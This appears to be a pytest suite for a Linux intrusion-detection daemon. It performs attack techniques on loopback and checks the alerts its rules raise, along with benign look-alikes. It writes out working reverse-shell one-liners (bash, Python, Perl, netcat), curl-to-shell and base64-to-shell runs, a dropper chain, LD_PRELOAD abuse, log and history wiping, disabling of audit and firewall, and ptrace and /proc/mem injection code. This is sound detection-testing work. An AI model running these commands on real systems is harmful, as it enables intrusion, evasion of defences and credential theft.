"""The shipped rule set (rules/) against real behaviour.

Each test performs an attack technique for real under a vigild running the
shipped rules with --alerts-out, and checks the alert: rule id and title,
ATT&CK technique, the process it names and its login session. Each also
performs the nearest benign behaviour and checks that it raises no alert of
level medium or higher.

Every behaviour runs in a new session (start_new_session) so that alerts can
be matched by pid and session id: other helpers' activity on the host is
recorded too. Tools that are missing here or whose real effect would change
the host (iptables -F, systemctl stop auditd, insmod, xmrig) are played by a
copy of /bin/true under the tool's name: the detection is on the exec, and
the command line is the real one. Nothing is left behind: every file is
created with a unique name and removed in a finally block.
"""
import base64
import io
import json
import os
import shutil
import signal
import socket
import struct
import subprocess
import tarfile
import tempfile
import threading
import time
import uuid

import pytest
import yaml

from conftest import BUILD, VM_WRITEV, Vigild, clean_env, get, helper

REPO = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
RULES = os.path.join(REPO, "rules")
PY = "/usr/bin/python3"
MEDIUM_PLUS = ("medium", "high", "critical")
TOK = uuid.uuid4().hex[:10]

DEFAULT_SENSITIVE = ["/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/gshadow-", "/etc/sudoers",
                     "/etc/sudoers.d/*", "/root/.ssh/*", "/home/*/.ssh/*", "/etc/ssh/ssh_host_*_key"]

_rules = {}


def rule(rel):
    """The parsed YAML of rules/REL.yml."""
    if rel not in _rules:
        with open(os.path.join(RULES, rel + ".yml")) as f:
            _rules[rel] = yaml.safe_load(f)
    return _rules[rel]


def techniques(rel):
    out = []
    for t in rule(rel)["tags"]:
        if t.startswith("attack.t") and t[8:12].isdigit():
            out.append("T" + t[8:].upper())
    return out


def vigild_has_engine():
    try:
        r = subprocess.run([os.path.join(BUILD, "vigild"), "--help"], capture_output=True, text=True,
                           timeout=10)
    except OSError:
        return False
    return "--alerts-out" in r.stdout + r.stderr and "--rules" in r.stdout + r.stderr


@pytest.fixture(scope="module")
def vd():
    if os.geteuid() != 0:
        pytest.skip("scenario tests need root")
    if not vigild_has_engine():
        pytest.skip("vigild has no --rules/--alerts-out yet")
    work = tempfile.mkdtemp(prefix="vigil-rules-")
    # a home directory with an SSH key, registered as sensitive before start
    home = os.path.join(work, "home")
    os.makedirs(os.path.join(home, ".ssh"), mode=0o700)
    key = os.path.join(home, ".ssh", "id_ed25519")
    with open(key, "w") as f:
        f.write("-----BEGIN OPENSSH PRIVATE KEY-----\nvigil-test-not-a-key\n-----END OPENSSH PRIVATE KEY-----\n")
    with open(key + ".pub", "w") as f:
        f.write("ssh-ed25519 AAAAvigiltest vigil@test\n")
    conf = "metrics_interval = 0\n" + "".join(f"sensitive = {p}\n" for p in DEFAULT_SENSITIVE + [key])
    d = Vigild(work, conf, extra_args=["--rules", RULES, "--alerts-out", os.path.join(work, "alerts.jsonl")])
    d.home = home
    d.key = key
    d.flushes = 0
    yield d
    d.stop()
    shutil.rmtree(work, ignore_errors=True)


@pytest.fixture
def tmp(vd):
    """A scratch directory, removed afterwards."""
    d = tempfile.mkdtemp(prefix=f"vigil-e3-{TOK}-")
    yield d
    shutil.rmtree(d, ignore_errors=True)


# ---------------------------------------------------------------- helpers

def spawn(cmd, env=None, cwd=None, stdin=subprocess.DEVNULL, executable=None):
    """Starts cmd as the leader of a new session; its pid is its session id."""
    return subprocess.Popen(cmd, env=env, cwd=cwd, stdin=stdin, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, start_new_session=True, executable=executable)


def run(cmd, timeout=20, **kw):
    """Runs cmd in a new session; returns (pid, returncode, stdout)."""
    p = spawn(cmd, **kw)
    try:
        out, _ = p.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        kill_group(p)
        raise
    return p.pid, p.returncode, out.decode(errors="replace")


def run_json(cmd, timeout=20, **kw):
    pid, rc, out = run(cmd, timeout=timeout, **kw)
    lines = [line for line in out.splitlines() if line.startswith("{")]
    return pid, rc, (json.loads(lines[0]) if lines else {})


def kill_group(p):
    try:
        os.killpg(p.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass
    try:
        p.wait(timeout=5)
    except subprocess.TimeoutExpired:
        pass


def fake_tool(directory, name, source="/bin/true"):
    """A copy of source named like a tool that is missing here or must not really run."""
    path = os.path.join(directory, name)
    shutil.copy(source, path)
    os.chmod(path, 0o755)
    return path


def is_alert(a, rel):
    return a.get("kind") == "alert" and a["rule"]["id"] == rule(rel)["id"]


def expect(vd, rel, pid=None, sid=None, pred=None, timeout=10.0):
    """Waits for the alert of rules/REL.yml about pid (and sid), checks it, returns it."""
    def match(a):
        if not is_alert(a, rel):
            return False
        if pid is not None and get(a, "process.pid") != pid:
            return False
        if sid is not None and str(get(a, "session.id")) != str(sid):
            return False
        return pred is None or pred(a)
    a = vd.wait_for_alert(match, timeout=timeout, what=f"alert {rel} pid={pid} sid={sid}")
    r = rule(rel)
    assert a["rule"]["title"] == r["title"]
    assert a["rule"]["level"] == r["level"]
    techs = get(a, "threat.techniques", [])
    for t in techniques(rel):
        assert t in techs, (t, techs)
    assert a["events"], a
    return a


def flush(vd):
    """Waits until everything done before this call has been through the engine:
    runs a marker exec (a bracketed argv[0]) and waits for its alert."""
    vd.flushes += 1
    name = f"[vigil-flush-{TOK}-{vd.flushes}]"
    pid, _, _ = run(["bash", "-c", f'exec -a "{name}" /bin/true'])
    expect(vd, "defense_evasion/masquerade_kernel_thread_exec", pid=pid, timeout=15)


def serious(vd, pids=(), sids=(), rel=None):
    """Alerts of level medium+ about one of pids or in one of sids (or of rule rel)."""
    pids = set(pids)
    sids = {str(s) for s in sids}
    out = []
    for a in vd.alerts():
        if a.get("kind") != "alert" or a["rule"]["level"] not in MEDIUM_PLUS:
            continue
        if rel is not None and a["rule"]["id"] != rule(rel)["id"]:
            continue
        if get(a, "process.pid") in pids or str(get(a, "session.id")) in sids:
            out.append(a)
    return out


def assert_quiet(vd, pids=(), sids=(), rel=None):
    flush(vd)
    bad = serious(vd, pids, sids, rel)
    assert not bad, [(a["rule"]["title"], get(a, "process.command_line")) for a in bad]


def exec_event(vd, pred, what, timeout=10.0):
    return vd.wait_for(lambda ev: ev["event"]["action"] == "exec" and pred(ev), timeout=timeout, what=what)


def http_server(directory):
    """python3 -m http.server on a free loopback port, serving directory;
    returns (process, port) once it accepts connections."""
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    srv = spawn([PY, "-m", "http.server", "--bind", "127.0.0.1", str(port)], cwd=directory)
    deadline = time.time() + 10
    while time.time() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            break
        except OSError:
            time.sleep(0.1)
    return srv, port


def listener():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    s.listen(4)
    s.settimeout(10)
    return s, s.getsockname()[1]


def reverse_shell(cmd, env=None):
    """Plays the attacker's listener for cmd (formatted with {port}); the shell
    gets `exit`. Returns the Popen of cmd (the leader of a new session)."""
    srv, port = listener()
    p = spawn([c.format(port=port) for c in cmd], env=env)
    try:
        conn, _ = srv.accept()
        conn.sendall(b"exit\n")
        time.sleep(0.3)
        conn.close()
        p.wait(timeout=10)
    finally:
        srv.close()
        if p.poll() is None:
            kill_group(p)
    return p


# ---------------------------------------------------------------- execution

def test_reverse_shell_bash_dev_tcp(vd, tmp):
    p = reverse_shell(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"], env=clean_env(tmp))
    shell = exec_event(vd, lambda ev: get(ev, "process.parent.pid") == p.pid
                       and ev["process"]["command_line"] == "bash -i", "exec of bash -i")
    assert get(shell, "vigil.stdio.stdin.type") == "socket"
    a = expect(vd, "execution/reverse_shell_socket_stdio", pid=shell["process"]["pid"], sid=p.pid)
    assert a["rule"]["level"] == "critical"
    assert a.get("response") == "kill"
    expect(vd, "execution/reverse_shell_dev_tcp", pid=p.pid, sid=p.pid)

    # benign: an interactive shell fed through a pipe, and a shell on a unix socketpair
    q = spawn(["bash", "-i"], env=clean_env(tmp), stdin=subprocess.PIPE)
    q.communicate(b"true\nexit\n", timeout=10)
    code = ("import socket,subprocess;a,b=socket.socketpair();"
            "p=subprocess.Popen(['/bin/sh','-c','read x'],stdin=b);a.sendall(b'x\\n');p.wait()")
    r_pid, _, _ = run([PY, "-c", code])
    assert_quiet(vd, sids=[q.pid, r_pid])


def test_reverse_shell_python_oneliner(vd, tmp):
    code = ("import socket,os,subprocess;s=socket.socket();s.connect(('127.0.0.1',{port}));"
            "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])")
    p = reverse_shell([PY, "-c", code], env=clean_env(tmp))
    expect(vd, "execution/reverse_shell_interpreter_oneliner", pid=p.pid, sid=p.pid)
    sh = exec_event(vd, lambda ev: get(ev, "process.parent.pid") == p.pid
                    and ev["process"]["command_line"] == "/bin/sh -i", "exec of /bin/sh -i")
    a = expect(vd, "execution/reverse_shell_socket_stdio", pid=sh["process"]["pid"], sid=p.pid)
    assert a.get("response") == "kill"


def test_reverse_shell_perl_and_netcat_fifo(vd, tmp):
    perl = ('use Socket;$i="127.0.0.1";$p={port};socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){{open(STDIN,">&S");open(STDOUT,">&S");'
            'open(STDERR,">&S");exec("/bin/sh -i");}};')
    p = reverse_shell(["perl", "-e", perl], env=clean_env(tmp))
    # perl exec()s the shell in place: same pid, now /bin/sh with socket stdio
    expect(vd, "execution/reverse_shell_socket_stdio", pid=p.pid, sid=p.pid)
    expect(vd, "execution/reverse_shell_interpreter_oneliner", pid=p.pid, sid=p.pid)

    fifo = os.path.join(tmp, "f")
    p = reverse_shell(["sh", "-c", f"rm -f {fifo}; mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | "
                       "nc 127.0.0.1 {port} > " + fifo], env=clean_env(tmp))
    expect(vd, "execution/reverse_shell_netcat_exec", pid=p.pid, sid=p.pid)

    # benign: nc used as a client without a shell behind it
    srv, port = listener()
    try:
        q = spawn(["nc", "-z", "-w", "2", "127.0.0.1", str(port)])
        q.wait(timeout=10)
    finally:
        srv.close()
    assert_quiet(vd, sids=[q.pid])


def test_webserver_spawns_shell(vd, tmp):
    nginx = fake_tool(tmp, "nginx", os.path.realpath("/usr/bin/perl"))
    pid, rc, _ = run([nginx, "-e", 'system("/bin/sh", "-c", "id >/dev/null")'])
    sh = exec_event(vd, lambda ev: get(ev, "process.parent.pid") == pid, "shell started by nginx")
    a = expect(vd, "execution/webserver_spawns_shell", pid=sh["process"]["pid"], sid=pid)
    assert get(a, "events")[0]["process"]["parent"]["executable"] == nginx

    # a python CGI server whose CGI script is a shell script (a web shell)
    www = os.path.join(tmp, "www")
    os.makedirs(os.path.join(www, "cgi-bin"))
    os.chmod(tmp, 0o755)  # http.server runs CGI scripts as nobody
    cgi = os.path.join(www, "cgi-bin", "status.sh")
    with open(cgi, "w") as f:
        f.write("#!/bin/sh\necho 'Content-Type: text/plain'\necho\nid\n")
    os.chmod(cgi, 0o755)
    probe = socket.socket()
    probe.bind(("127.0.0.1", 0))
    port = probe.getsockname()[1]
    probe.close()
    srv = spawn([PY, "-m", "http.server", "--cgi", "--bind", "127.0.0.1", str(port)], cwd=www)
    try:
        deadline = time.time() + 10
        body = None
        while time.time() < deadline:
            try:
                with socket.create_connection(("127.0.0.1", port), timeout=2) as c:
                    c.sendall(b"GET /cgi-bin/status.sh HTTP/1.0\r\nHost: x\r\n\r\n")
                    body = b""
                    while True:
                        chunk = c.recv(4096)
                        if not chunk:
                            break
                        body += chunk
                break
            except OSError:
                time.sleep(0.1)
        assert body and b"uid=" in body, body
        cgi_ev = exec_event(vd, lambda ev: get(ev, "process.parent.pid") == srv.pid
                            and get(ev, "vigil.exec.script") == cgi, "CGI shell script exec")
        expect(vd, "execution/interpreter_service_spawns_shell", pid=cgi_ev["process"]["pid"], sid=srv.pid)
    finally:
        kill_group(srv)

    # benign: a python script (not a server) that shells out
    script = os.path.join(tmp, "report.py")
    with open(script, "w") as f:
        f.write("import subprocess\nsubprocess.run(['sh', '-c', 'date >/dev/null'])\n")
    b_pid, _, _ = run([PY, script])
    assert_quiet(vd, sids=[b_pid])


def test_download_chmod_execute_connect(vd, tmp):
    srv_dir = os.path.join(tmp, "srv")
    dl = os.path.join(tmp, "dl")
    os.makedirs(srv_dir)
    os.makedirs(dl)
    shutil.copy(os.path.realpath("/usr/bin/nc"), os.path.join(srv_dir, "payload"))
    shutil.copy("/bin/true", os.path.join(srv_dir, "tool"))
    srv, port = http_server(srv_dir)
    try:
        bot = os.path.join(dl, "update")
        pid, rc, out = run(["bash", "-c", f"curl -sf -o {bot} http://127.0.0.1:{port}/payload && "
                            f"chmod +x {bot} && {bot} -z -w 2 127.0.0.1 {port}; echo rc=$?"])
        assert "rc=0" in out, out
        ex = exec_event(vd, lambda ev: ev["process"]["executable"] == bot, "exec of the downloaded file")
        a = expect(vd, "execution/dropper_download_chmod_exec_connect", pid=ex["process"]["pid"], sid=pid,
                   timeout=15)
        actions = [e["event"]["action"] for e in a["events"]]
        for step in ("file_create", "file_chmod", "exec", "connect"):
            assert any(x.startswith(step) for x in actions), actions

        # benign: downloaded, made executable and run, but it never connects
        tool = os.path.join(dl, "tool")
        b_pid, _, out = run(["bash", "-c", f"curl -sf -o {tool} http://127.0.0.1:{port}/tool && "
                             f"chmod +x {tool} && {tool}; echo rc=$?"])
        assert "rc=0" in out, out
        # and a script from the repo, copied, made executable and run
        script = os.path.join(dl, "jsonl-check.sh")
        with open(script, "w") as f:
            f.write("#!/bin/sh\nexec cat \"$@\" >/dev/null\n")
        c_pid, _, _ = run(["bash", "-c", f"chmod +x {script} && {script} {REPO}/README.md"])
        assert_quiet(vd, sids=[b_pid, c_pid])
    finally:
        kill_group(srv)


def test_download_piped_into_shell(vd, tmp):
    srv_dir = os.path.join(tmp, "srv")
    os.makedirs(srv_dir)
    marker = os.path.join(tmp, "installed")
    with open(os.path.join(srv_dir, "install.sh"), "w") as f:
        f.write(f"touch {marker}\n")
    srv, port = http_server(srv_dir)
    try:
        url = f"http://127.0.0.1:{port}/install.sh"
        pid, rc, _ = run(["bash", "-c", f"curl -sf {url} | bash"])
        assert rc == 0 and os.path.exists(marker)
        a = expect(vd, "execution/download_piped_into_shell", sid=pid)
        names = sorted(get(e, "process.name") for e in a["events"])
        assert "curl" in names and "bash" in names, names

        # benign: the download into a file that is read, or into cat
        b1, _, _ = run(["bash", "-c", f"curl -sf {url} | cat >/dev/null"])
        b2, _, _ = run(["bash", "-c", f"curl -sf -o {tmp}/install.sh {url} && cat {tmp}/install.sh >/dev/null"])
        assert_quiet(vd, sids=[b1, b2])
    finally:
        kill_group(srv)


def test_reverse_shell_netclient_pipe(vd, tmp):
    if not shutil.which("nc"):
        pytest.skip("nc is not installed")
    marker = os.path.join(tmp, "owned")
    srv, port = listener()

    def served(payload, script):
        """Runs script in a new session while the listener sends payload to
        the one connection it accepts; returns the session's pid."""
        def serve():
            c, _ = srv.accept()
            c.sendall(payload)
            time.sleep(0.3)
            c.close()
        t = threading.Thread(target=serve)
        t.start()
        pid, _, _ = run(["bash", "-c", script])
        t.join()
        return pid

    # through timeout, which gives nc a process group of its own: the two
    # are paired by the pipe between them
    pid = served(f"touch {marker}\n".encode(), f"timeout 10 nc 127.0.0.1 {port} | sh")
    assert os.path.exists(marker)
    a = expect(vd, "execution/reverse_shell_netclient_pipe", sid=pid)
    names = sorted(get(e, "process.name") for e in a["events"])
    assert "nc" in names and "sh" in names, names

    # benign: what nc receives goes to cat; a command piped into nc
    b1 = served(b"hello\n", f"nc 127.0.0.1 {port} | cat >/dev/null")
    b2 = served(b"", f"echo ping | nc -N 127.0.0.1 {port} >/dev/null")
    srv.close()
    assert_quiet(vd, sids=[b1, b2])


def test_fileless_execution(vd, tmp):
    pid, rc, out = run_json([helper("memfd_exec")])
    assert rc == 0 and out["pid"] == pid
    expect(vd, "execution/fileless_memfd_exec", pid=pid, sid=pid)

    pid, rc, out = run_json([helper("deleted_exec"), "--dir", tmp])
    assert rc == 0
    expect(vd, "execution/fileless_deleted_exe", pid=pid, sid=pid)

    shm = f"/dev/shm/vigil-e3-{TOK}"
    try:
        shutil.copy("/bin/true", shm)
        os.chmod(shm, 0o755)
        pid, rc, _ = run([shm])
        assert rc == 0
    finally:
        os.unlink(shm)
    expect(vd, "execution/fileless_shm_exec", pid=pid, sid=pid)

    # benign: the same program run from a normal directory
    copy = fake_tool(tmp, "true-copy")
    b_pid, _, _ = run([copy])
    assert_quiet(vd, pids=[b_pid])


# ---------------------------------------------------------------- defense evasion

def test_hidden_executable_in_temp_dir(vd, tmp):
    assert tmp.startswith("/tmp/")
    hidden = fake_tool(tmp, ".update")
    pid, _, _ = run([hidden])
    a = expect(vd, "defense_evasion/hidden_executable_in_temp_dir", pid=pid, sid=pid)
    assert get(a, "process.executable") == hidden
    # a program inside a directory named "..."
    dots = os.path.join(tmp, "...")
    os.makedirs(dots)
    inner = fake_tool(dots, "agent")
    pid2, _, _ = run([inner])
    expect(vd, "defense_evasion/hidden_executable_in_temp_dir", pid=pid2, sid=pid2)

    # benign: the same program not hidden, and through a path with "./"
    plain = fake_tool(tmp, "update")
    b1, _, _ = run([plain])
    b2, _, _ = run(["./update"], cwd=tmp)
    assert_quiet(vd, pids=[b1, b2], sids=[b1, b2])


def test_masquerade_as_kernel_thread(vd, tmp):
    pid, rc, out = run_json([helper("rename_comm"), "--sleep", "0"])
    assert out["comm"] == "[kworker/0:1]"
    expect(vd, "defense_evasion/masquerade_kernel_thread_comm", pid=pid, sid=pid)
    pid, _, _ = run(["bash", "-c", 'exec -a "[kworker/3:1-events]" /bin/sleep 0.1'])
    expect(vd, "defense_evasion/masquerade_kernel_thread_exec", pid=pid, sid=pid)

    # benign: a program naming itself (threads do this all the time)
    b_pid, _, out = run_json([helper("rename_comm"), "--sleep", "0", "worker-1"])
    assert out["comm"] == "worker-1"
    assert_quiet(vd, pids=[b_pid])


def test_ld_preload(vd, tmp):
    env = dict(os.environ, LD_PRELOAD=f"/tmp/vigil-e3-{TOK}-hook.so")
    pid, rc, _ = run(["/bin/true"], env=env)
    expect(vd, "defense_evasion/ld_preload_env", pid=pid, sid=pid)
    expect(vd, "defense_evasion/ld_preload_env_writable_dir", pid=pid, sid=pid)

    # benign: a library path, and a known preload tool
    b1, _, _ = run(["/bin/true"], env=dict(os.environ, LD_LIBRARY_PATH=tmp))
    b2, _, _ = run(["/bin/true"], env=dict(
        os.environ, LD_PRELOAD="/usr/lib/x86_64-linux-gnu/faketime/libfaketime.so.1"))
    assert_quiet(vd, pids=[b1, b2])


def test_ld_so_preload_write(vd):
    path = "/etc/ld.so.preload"
    if os.path.exists(path):
        pytest.skip("/etc/ld.so.preload exists on this host; not touching it")
    code = (f"import os\nfd = os.open({path!r}, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o644)\n"
            f"os.close(fd)\nos.unlink({path!r})\n")
    try:
        pid, rc, _ = run([PY, "-c", code])
    finally:
        # only an empty file we created can be left by a crash between the two calls
        if os.path.exists(path) and os.path.getsize(path) == 0:
            os.unlink(path)
    assert rc == 0
    a = expect(vd, "defense_evasion/ld_so_preload_write", pid=pid, sid=pid)
    assert a["rule"]["level"] == "critical"

    # benign: a library search path added the normal way
    conf = f"/etc/ld.so.conf.d/vigil-e3-{TOK}.conf"
    code = f"import os\nwith open({conf!r}, 'x') as f: f.write('/opt/vigil-test/lib\\n')\nos.unlink({conf!r})\n"
    try:
        b1, rc, _ = run([PY, "-c", code])
    finally:
        if os.path.exists(conf):
            os.unlink(conf)
    assert rc == 0
    assert_quiet(vd, pids=[b1])


def test_history_clearing(vd, tmp):
    hist = os.path.join(tmp, ".bash_history")
    with open(hist, "w") as f:
        f.write("ls\n")
    pid, _, _ = run(["bash", "-c", "history -c; unset HISTFILE; true"], env=clean_env(tmp))
    expect(vd, "defense_evasion/history_clear_cmdline", pid=pid, sid=pid)
    pid, _, _ = run(["truncate", "-s", "0", hist])
    expect(vd, "defense_evasion/history_file_neutralised", pid=pid, sid=pid,
           pred=lambda a: a["events"][0]["event"]["action"] == "file_truncate")
    pid, _, _ = run(["rm", hist])
    expect(vd, "defense_evasion/history_file_deleted", pid=pid, sid=pid)
    pid, _, _ = run(["ln", "-s", "/dev/null", hist])
    a = expect(vd, "defense_evasion/history_file_neutralised", pid=pid, sid=pid)
    assert get(a["events"][0], "file.target_path") == "/dev/null"

    # benign: reading the history, removing an unrelated file
    notes = os.path.join(tmp, "history-notes.txt")
    open(notes, "w").close()
    b1, _, _ = run(["cat", hist])
    b2, _, _ = run(["rm", notes])
    assert_quiet(vd, pids=[b1, b2])


def test_decoded_payload_piped_into_shell(vd, tmp):
    marker = os.path.join(tmp, "ran")
    payload = base64.b64encode(f"touch {marker}\n".encode()).decode()
    pid, rc, _ = run(["bash", "-c", f"echo {payload} | base64 -d | bash"])
    assert rc == 0 and os.path.exists(marker)
    a = expect(vd, "defense_evasion/decode_and_run_in_shell", sid=pid)
    names = sorted(get(e, "process.name") for e in a["events"])
    assert "base64" in names and "bash" in names, names
    # base32 into `sh -s`
    b32 = base64.b32encode(b"echo decoded-ok\n").decode()
    pid2, _, out = run(["bash", "-c", f"echo {b32} | base32 --decode | sh -s"])
    assert "decoded-ok" in out, out
    expect(vd, "defense_evasion/decode_and_run_in_shell", sid=pid2)

    # benign: decoding into cat or into a file that is then run, and a
    # plain command piped into bash
    b1, _, _ = run(["bash", "-c", f"echo {payload} | base64 -d | cat >/dev/null"])
    b2, _, _ = run(["bash", "-c", "echo true | bash"])
    b3, _, _ = run(["bash", "-c", f"echo {payload} | base64 -d > {tmp}/dec.sh && bash {tmp}/dec.sh"])
    assert_quiet(vd, sids=[b1, b2, b3])


def test_log_tampering(vd):
    log = f"/var/log/vigil-e3-{TOK}.log"
    rotated = log + ".1.gz"
    try:
        with open(log, "w") as f:
            f.write("Nov 25 sshd[1]: Accepted publickey for root\n")
        b1, _, _ = run(["bash", "-c", f"echo 'line' >> {log}"])
        pid, _, _ = run(["bash", "-c", f": > {log}"])
        expect(vd, "defense_evasion/log_file_truncated_open", pid=pid, sid=pid)
        pid, _, _ = run(["truncate", "-s", "0", log])
        expect(vd, "defense_evasion/log_file_truncated", pid=pid, sid=pid)
        pid, _, _ = run(["rm", log])
        expect(vd, "defense_evasion/log_file_deleted", pid=pid, sid=pid)
        # benign: appending (above) and removing an old rotated log
        open(rotated, "w").close()
        b2, _, _ = run(["rm", rotated])
        assert_quiet(vd, pids=[b1, b2])
    finally:
        for p in (log, rotated):
            if os.path.exists(p):
                os.unlink(p)


def test_timestomp(vd, tmp):
    f = os.path.join(tmp, "libc-helper.so")
    open(f, "w").close()
    pid, rc, _ = run(["touch", "-d", "2001-02-03 04:05:06", f])
    assert rc == 0
    expect(vd, "defense_evasion/timestomp_touch", pid=pid, sid=pid)
    b1, _, _ = run(["touch", os.path.join(tmp, "fresh")])
    assert_quiet(vd, pids=[b1])


def test_impair_defenses(vd, tmp):
    tools = {n: fake_tool(tmp, n) for n in ("systemctl", "auditctl", "iptables", "nft", "ufw", "setenforce")}
    cases = [
        ([tools["systemctl"], "stop", "auditd"], "defense_evasion/audit_disable"),
        ([tools["auditctl"], "-e", "0"], "defense_evasion/audit_disable"),
        ([tools["iptables"], "-F"], "defense_evasion/firewall_disable"),
        ([tools["nft"], "flush", "ruleset"], "defense_evasion/firewall_disable"),
        ([tools["ufw"], "disable"], "defense_evasion/firewall_disable"),
        ([tools["setenforce"], "0"], "defense_evasion/selinux_disable"),
        ([tools["systemctl"], "stop", "vigild"], "defense_evasion/vigil_tamper_service_stop"),
    ]
    for cmd, rel in cases:
        pid, _, _ = run(cmd)
        expect(vd, rel, pid=pid, sid=pid)
    benign = []
    for cmd in ([tools["systemctl"], "status", "auditd"], [tools["iptables"], "-L", "-n"],
                [tools["setenforce"], "1"], [tools["ufw"], "status"], [tools["systemctl"], "status", "vigild"],
                [tools["auditctl"], "-l"]):
        benign.append(run(cmd)[0])
    assert_quiet(vd, pids=benign)


def test_vigil_tampering(vd, tmp):
    fake = fake_tool(tmp, "vigild", os.path.realpath("/bin/sleep"))
    v1 = subprocess.Popen([fake, "30"], start_new_session=True)
    v2 = subprocess.Popen([fake, "30"], start_new_session=True)
    plain = subprocess.Popen(["sleep", "30"], start_new_session=True)
    try:
        pid, rc, out = run_json([PY, "-c", PTRACE_POKE, str(v1.pid)])
        assert out.get("attach") == 0, out
        a = expect(vd, "defense_evasion/vigil_tamper_ptrace", pid=pid, sid=pid)
        assert a["rule"]["level"] == "critical"
        assert get(a["events"][0], "vigil.target.pid") == v1.pid
        pid, _, _ = run(["/bin/kill", "-STOP", str(v1.pid)])
        expect(vd, "defense_evasion/vigil_tamper_kill_signal", pid=pid, sid=pid)
        pid, _, _ = run(["/bin/kill", "-KILL", str(v1.pid)])
        expect(vd, "defense_evasion/vigil_tamper_kill_signal", pid=pid, sid=pid)
        pid, _, _ = run(["/bin/kill", "-TERM", str(v2.pid)])
        expect(vd, "defense_evasion/vigil_tamper_term_signal", pid=pid, sid=pid)
        # benign: killing an ordinary process
        b1, _, _ = run(["/bin/kill", "-KILL", str(plain.pid)])
        assert_quiet(vd, pids=[b1])
    finally:
        for p in (v1, v2, plain):
            if p.poll() is None:
                p.kill()
            p.wait(timeout=5)


# ---------------------------------------------------------------- privilege escalation

PTRACE_POKE = r"""
import ctypes, json, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
out = {"pid": os.getpid(), "target": pid}
out["attach"] = libc.ptrace(16, pid, None, None)  # PTRACE_ATTACH
os.waitpid(pid, 0)
addr = None
with open(f"/proc/{pid}/maps") as f:
    for line in f:
        rng, perms = line.split()[:2]
        if perms.startswith("rw"):
            addr = int(rng.split("-")[0], 16)
            break
ctypes.set_errno(0)
word = libc.ptrace(2, pid, ctypes.c_void_p(addr), None)  # PTRACE_PEEKDATA
out["peek_errno"] = ctypes.get_errno()
# write back the word just read: the target is unchanged
out["poke"] = libc.ptrace(5, pid, ctypes.c_void_p(addr), ctypes.c_void_p(word & 0xFFFFFFFFFFFFFFFF))
out["detach"] = libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
print(json.dumps(out))
"""


def test_ptrace_injection(vd, tmp):
    victim = subprocess.Popen(["sleep", "30"], start_new_session=True)
    try:
        pid, rc, out = run_json([PY, "-c", PTRACE_POKE, str(victim.pid)])
        assert out.get("attach") == 0 and out.get("poke") == 0, out
        a = expect(vd, "privilege_escalation/ptrace_attach", pid=pid, sid=pid)
        assert get(a["events"][0], "vigil.target.pid") == victim.pid
        expect(vd, "privilege_escalation/ptrace_injection", pid=pid, sid=pid,
               pred=lambda x: get(x["events"][0], "vigil.ptrace.request_name") == "PTRACE_POKEDATA")
        # the same word put back with process_vm_writev, no ptrace at all
        pid, rc, out = run_json([PY, "-c", VM_WRITEV, str(victim.pid)])
        assert rc == 0 and out["written"] == 8, out
        expect(vd, "privilege_escalation/ptrace_injection", pid=pid, sid=pid,
               pred=lambda x: get(x["events"][0], "vigil.ptrace.request_name") == "process_vm_writev")
        # it read the word first, with process_vm_readv
        expect(vd, "credential_access/process_memory_read", pid=pid, sid=pid,
               pred=lambda x: get(x["events"][0], "vigil.ptrace.request_name") == "process_vm_readv")
        # benign: tracing a program with strace (debugger: a weak signal only)
        b1, rc, _ = run(["strace", "-f", "-o", "/dev/null", "/bin/true"])
        assert rc == 0
        assert_quiet(vd, sids=[b1])
    finally:
        victim.kill()
        victim.wait(timeout=5)


PROC_MEM = r"""
import json, os, sys
pid, write = int(sys.argv[1]) or os.getpid(), sys.argv[2] == "write"
# the first word of the target's stack: read it, and (write) put it back
with open("/proc/%d/maps" % pid) as f:
    addr = next(int(l.split("-")[0], 16) for l in f if "[stack]" in l)
fd = os.open("/proc/%d/mem" % pid, os.O_RDWR if write else os.O_RDONLY)
word = os.pread(fd, 8, addr)
n = os.pwrite(fd, word, addr) if write else 0
os.close(fd)
print(json.dumps({"pid": os.getpid(), "written": n}))
"""


def test_proc_mem_injection(vd, tmp):
    victim = subprocess.Popen(["sleep", "30"], start_new_session=True)
    try:
        pid, rc, out = run_json([PY, "-c", PROC_MEM, str(victim.pid), "write"])
        assert rc == 0 and out["written"] == 8, out
        mem = "/proc/%d/mem" % victim.pid
        expect(vd, "privilege_escalation/proc_mem_write", pid=pid, sid=pid,
               pred=lambda a: get(a["events"][0], "file.path") == mem)
        # reading it: credential dumping (T1003.007)
        pid2, rc, out = run_json([PY, "-c", PROC_MEM, str(victim.pid), "read"])
        assert rc == 0, out
        expect(vd, "credential_access/process_memory_read", pid=pid2, sid=pid2,
               pred=lambda a: get(a["events"][0], "file.path") == mem)
        # benign: a process reading its own memory (runtimes do)
        b1, rc, out = run_json([PY, "-c", PROC_MEM, "0", "read"])
        assert rc == 0, out
        assert_quiet(vd, sids=[b1])
        assert victim.poll() is None
    finally:
        victim.kill()
        victim.wait(timeout=5)


def test_root_without_setuid(vd, tmp):
    pid, rc, out = run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups",
                        "--inh-caps=+setuid", "--ambient-caps=+setuid",
                        PY, "-c", "import os; os.setuid(0); print(os.getuid())"])
    assert rc == 0 and out.strip() == "0", out
    a = expect(vd, "privilege_escalation/root_gained_without_setuid", pid=pid, sid=pid)
    assert get(a["events"][0], "vigil.creds.old_uid.effective") == 65534

    # benign: a root daemon dropping privileges and taking root back from its saved uid
